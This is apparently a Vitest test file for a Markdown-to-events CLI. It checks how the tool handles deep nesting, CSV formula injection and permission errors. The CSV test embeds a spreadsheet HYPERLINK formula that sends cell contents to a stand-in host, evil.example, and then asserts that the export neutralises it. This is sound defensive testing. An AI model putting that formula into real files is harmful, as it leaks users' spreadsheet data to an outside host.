/**
 * The CLI on hostile input: one line and exit 2 for deep nesting and for file-system refusals,
 * CSV without formulas, CRLF summaries without CR.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it, vi } from "vitest";
import { report } from "../../src/cli/index.js";
import { runCli } from "../run-cli.js";

const dir = mkdtempSync(join(tmpdir(), "annals-hostile-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

describe("CLI: hostile input", () => {
  it.each([
    ["quotes", ">".repeat(4000)],
    ["lists", "- ".repeat(4000)],
  ])("deeply nested %s: exit 2, one line", async (name, text) => {
    const { code, err } = await runCli("extract", file(`${name}.md`, text));
    expect(code).toBe(2);
    expect(err.trim().split("\n")).toHaveLength(1);
    expect(err).toMatch(/nested more than 100 levels/);
  });

  it("CSV export neutralizes a formula and keeps summaries free of CR", async () => {
    const payload = '=HYPERLINK("http://evil.example/?"&B2&C2,"x")';
    const path = file("csv.md", `2001年3月5日，${payload}美国与朝鲜\r\n在日内瓦举行会谈。\r\n`);
    const { code, out } = await runCli("export", path, "--format", "csv");
    expect(code).toBe(0);
    expect(out).not.toMatch(/(^|,)"?=/m);
    expect(out).not.toMatch(/\r(?!\n)/);
  });

  it("a file-system refusal is one line naming the path, exit 2", () => {
    const write = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
    try {
      const error = Object.assign(new Error("EACCES: permission denied, mkdir '/pkg/.annals'"), {
        code: "EACCES",
        path: "/pkg/.annals",
        syscall: "mkdir",
      });
      expect(report(error)).toBe(2);
      expect(write).toHaveBeenCalledWith(
        "annals: /pkg/.annals: permission denied (mkdir); use --db or --out with a folder you can write\n",
      );
    } finally {
      write.mockRestore();
    }
  });
});
